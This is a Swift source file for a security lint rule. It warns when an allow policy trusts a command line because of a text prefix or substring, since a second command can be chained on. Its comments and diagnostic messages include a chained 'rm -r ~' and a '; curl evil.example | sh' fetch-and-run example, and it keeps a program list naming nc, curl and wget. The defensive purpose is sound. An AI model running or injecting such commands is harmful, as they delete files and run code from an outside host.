internal import Weir

/// A command line is searched for a text, or held against the beginning of one: `git status; rm -r
/// ~` begins with `git status`, and `r\m` and `'rm'` are `rm`. Read it with `shell(…)`, which
/// sees the commands that it runs.
struct ShellTextMatch: LintRule {
  let name: ExactString = "shell-text-match"
  let category = LintCategory.security
  let level = LintLevel.warning

  let bad: LintExample = """
    allow looking when «command starts_with "git log"»
    """
  let good: LintExample = """
    allow looking when all(c in shell(command, "bash").commands: c.program in ["ls", "cat"])
    """

  /// Members that hold a command line, by the last words of their names.
  private static let lines: Set<ExactString> = ["commandline", "cmdline", "shell"]
  /// Members that may hold one, or the name of something else: only a text with an argument, or
  /// with a program that everybody knows, says that it is one.
  private static let names: Set<ExactString> = ["command", "cmd", "script"]
  private static let programs: Set<ExactString> = [
    "bash", "cat", "chmod", "chown", "cp", "curl", "dd", "docker", "echo", "eval", "find", "git",
    "helm", "kill", "kubectl", "ls", "make", "mv", "nc", "node", "npm", "perl", "pip", "psql",
    "python", "python3", "rm", "rsync", "ruby", "scp", "sed", "sh", "ssh", "su", "sudo", "tar",
    "terraform", "wget", "zsh",
  ]

  func findings(in context: LintContext) -> [Diagnostic] {
    context.textComparisons.compactMap { comparison -> Diagnostic? in
      guard comparison.asksForPart, let isLine = isLine(comparison) else { return nil }
      for text in comparison.texts {
        let pattern = PatternText(text, of: comparison)
        // Signs as `;` and `|` have one spelling.
        guard let word = pattern.words.first(where: { $0.text.bytes.count > 1 }),
          isLine || pattern.pair != nil || saysProgram(pattern),
          // What asks for one of a few lines as a whole asks well enough.
          comparison.place.closes || pattern.isOpen
        else { continue }
        let path = context.excerpt(comparison.subject.range)
        return finding(
          comparison.place.closes
            ? "`\(quotes(word.text))` is the same to a shell, and is not found"
            : comparison.comparison == .startsWith
              ? "`\(VisibleText.escaped(text.description)); curl evil.example | sh` passes too"
              : "a command line with that text in it may run anything else as well",
          at: comparison.range,
          hint: "ask what it runs: `shell(\(path), \"bash\").commands`")
      }
      return nil
    }
  }

  /// Whether a command line is compared for certain; nil where none is.
  private func isLine(_ comparison: TextComparison) -> Bool? {
    if Self.lines.contains(comparison.lastWord) { return true }
    if comparison.lastWord == "line", let name = comparison.members.last,
      name.includesIgnoringCase("command") || name.includesIgnoringCase("cmd")
    {
      return true
    }
    return Self.names.contains(comparison.lastWord) ? false : nil
  }

  /// Whether it has a program's name, or an option such as `--force`.
  private func saysProgram(_ pattern: PatternText) -> Bool {
    pattern.words.contains { word in
      Self.programs.contains(word.text)
        || word.start > 1 && pattern.bytes[word.start - 1] == UInt8(ascii: "-")
          && pattern.bytes[word.start - 2] == UInt8(ascii: "-")
    }
  }

  /// The word with quotes in it, which a shell takes away.
  private func quotes(_ word: ExactString) -> String {
    "\(ExactString(validated: [word.bytes[0]]))''"
      + String(decoding: word.bytes.dropFirst(), as: UTF8.self)
  }
}
